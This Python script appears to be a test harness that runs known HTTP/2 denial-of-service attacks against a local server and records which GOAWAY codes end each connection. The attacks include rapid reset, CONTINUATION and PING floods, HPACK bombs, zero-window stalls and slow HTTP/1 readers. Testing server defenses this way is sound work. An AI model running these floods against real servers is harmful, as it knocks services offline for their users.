"""Abuses a server over raw frames of HTTP/2, and in one case over HTTP/1: `h2_abuse.py PORT CASE SECONDS`.

Whoever is thrown out comes back until the time is over. Prints a line when it begins, and one JSON object: `sent`, how many frames
left, and `end`, the error code of the first GOAWAY that came, or how else it went on.
"""

import json
import os
import select
import socket
import struct
import sys
import time

from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Peer:
    """A connection whose frames are ours to choose."""

    def __init__(self, port, settings=None):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self.received = b""
        self.sent = 0
        self.end = None
        frame = SettingsFrame(0)
        frame.settings = settings or {}
        self.socket.sendall(PREFACE + frame.serialize())

    def send(self, *frames):
        """False when the server has closed, or takes nothing any more."""
        data = b"".join(frame.serialize() for frame in frames)
        try:
            while data:
                self.read()
                if self.end:
                    return False
                _, writable, _ = select.select([], [self.socket], [], 1)
                if not writable:
                    self.end = "stalled"
                    return False
                data = data[self.socket.send(data, socket.MSG_DONTWAIT) :]
            self.sent += len(frames)
            return True
        except BlockingIOError:
            return self.send_rest(data, len(frames))
        except OSError:
            self.read()
            self.end = self.end or "closed"
            return False

    def send_rest(self, data, count):
        try:
            self.socket.settimeout(1)
            self.socket.sendall(data)
            self.sent += count
            return True
        except OSError:
            self.end = self.end or "stalled"
            return False

    def read(self):
        """Takes what has come, and looks for a GOAWAY in it."""
        while True:
            readable, _, _ = select.select([self.socket], [], [], 0)
            if not readable:
                break
            try:
                data = self.socket.recv(65536)
            except OSError:
                self.end = self.end or "closed"
                return
            if not data:
                self.end = self.end or "closed"
                return
            self.received += data
            self.parse()

    def parse(self):
        while len(self.received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                return
            body = self.received[9 : 9 + length]
            self.received = self.received[9 + length :]
            if isinstance(frame, GoAwayFrame):
                code = struct.unpack(">L", body[4:8])[0]
                self.end = ErrorCodes(code).name if code in list(ErrorCodes) else str(code)

    def wait(self, seconds):
        """Reads until the server has said the end."""
        until = time.monotonic() + seconds
        while not self.end and time.monotonic() < until:
            select.select([self.socket], [], [], 0.05)
            self.read()

    def headers(self, stream, path="/", method="GET", flags=("END_HEADERS", "END_STREAM"), more=()):
        pseudo = [(":method", method), (":scheme", "http"), (":authority", "t"), (":path", path)]
        frame = HeadersFrame(stream)
        frame.data = self.encoder.encode(pseudo + list(more))
        for flag in flags:
            frame.flags.add(flag)
        return frame


def while_time(seconds):
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        yield


def rapid_reset(peer, seconds):
    stream = 1
    for _ in while_time(seconds):
        frames = []
        for _ in range(50):
            reset = RstStreamFrame(stream)
            reset.error_code = ErrorCodes.CANCEL
            frames += [peer.headers(stream, "/slow"), reset]
            stream += 2
        if not peer.send(*frames):
            return


def continuation_flood(peer, seconds):
    head = peer.headers(1, flags=("END_STREAM",))
    peer.send(head)
    for _ in while_time(seconds):
        frame = ContinuationFrame(1)
        frame.data = peer.encoder.encode([("x-%d" % peer.sent, "y" * 1000)])
        if not peer.send(frame):
            return


def empty_continuations(peer, seconds):
    peer.send(peer.headers(1, flags=("END_STREAM",)))
    for _ in while_time(seconds):
        if not peer.send(*[ContinuationFrame(1) for _ in range(100)]):
            return


def empty_data(peer, seconds):
    peer.send(peer.headers(1, "/echo", "POST", ("END_HEADERS",)))
    for _ in while_time(seconds):
        if not peer.send(*[DataFrame(1, b"") for _ in range(100)]):
            return


def settings_flood(peer, seconds):
    for _ in while_time(seconds):
        frames = []
        for n in range(100):
            frame = SettingsFrame(0)
            frame.settings = {SettingCodes.INITIAL_WINDOW_SIZE: 65535 + n}
            frames.append(frame)
        if not peer.send(*frames):
            return


def ping_flood(peer, seconds):
    for _ in while_time(seconds):
        if not peer.send(*[PingFrame(0, b"12345678") for _ in range(100)]):
            return


def unread_pings(peer, seconds):
    """The same without reading a single answer."""
    peer.read = lambda: None
    ping_flood(peer, seconds)
    del peer.read


def take_nothing(peers, path, seconds):
    """Asks for much and takes nothing."""
    for stream in range(1, 200, 2):
        for peer in peers:
            if not peer.end:
                peer.send(peer.headers(stream, path))
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for peer in peers:
            peer.read()
        time.sleep(0.05)


def unread(peers, path, seconds):
    """The same with windows that are wide open, and a socket that nobody reads."""
    for peer in peers:
        peer.read = lambda: None
        update = WindowUpdateFrame(0, (1 << 30))
        peer.send(update)
    take_nothing(peers, path, seconds)


def http1_unread(port, seconds):
    """Clients of HTTP/1 with a small buffer who ask and do not read."""
    peers = []
    for _ in range(150):
        peer = socket.socket()
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        peer.connect(("127.0.0.1", port))
        peer.sendall(b"GET /buffer HTTP/1.1\r\nhost: t\r\n\r\n")
        peers.append(peer)
    time.sleep(seconds)
    return len(peers)


def hpack_bomb(peer, seconds):
    """One entry of the dynamic table, named as often as a block has bytes."""
    stream = 1
    peer.send(peer.headers(stream, more=[("bomb", "x" * 4000)]))
    for _ in while_time(seconds):
        stream += 2
        frame = peer.headers(stream)
        # 62 is the newest entry.
        frame.data += b"\xbe" * (16_000 - len(frame.data))
        if not peer.send(frame):
            return


def window_updates(peer, seconds):
    """Increments until the window is larger than there can be one."""
    for _ in while_time(seconds):
        if not peer.send(*[WindowUpdateFrame(0, 1) for _ in range(100)]):
            return


# Connections, what they ask for, their windows, and what they do.
MANY = {
    "zero_window": (2, "/big", 0, take_nothing),
    "zero_window_large": (20, "/large", 0, take_nothing),
    "unread_large": (20, "/large", (1 << 31) - 1, unread),
}


def again(case, port, seconds):
    """The case on one connection after the other."""
    sent, end = 0, None
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        peer = Peer(port)
        globals()[case](peer, until - time.monotonic())
        peer.wait(2)
        sent += peer.sent
        end = end or peer.end or "open"
        peer.socket.close()
    return sent, end


def main():
    port, case, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    # What an attacker computes, it computes elsewhere: here it must not be what keeps the server from its work.
    os.nice(19)
    print("begun", flush=True)
    if case == "http1_unread":
        sent, end = http1_unread(port, seconds), "open"
    elif case in MANY:
        count, path, window, attack = MANY[case]
        peers = [Peer(port, {SettingCodes.INITIAL_WINDOW_SIZE: window}) for _ in range(count)]
        attack(peers, path, seconds)
        sent, end = sum(one.sent for one in peers), peers[0].end or "open"
    else:
        sent, end = again(case, port, seconds)
    print(json.dumps({"sent": sent, "end": end}))


main()
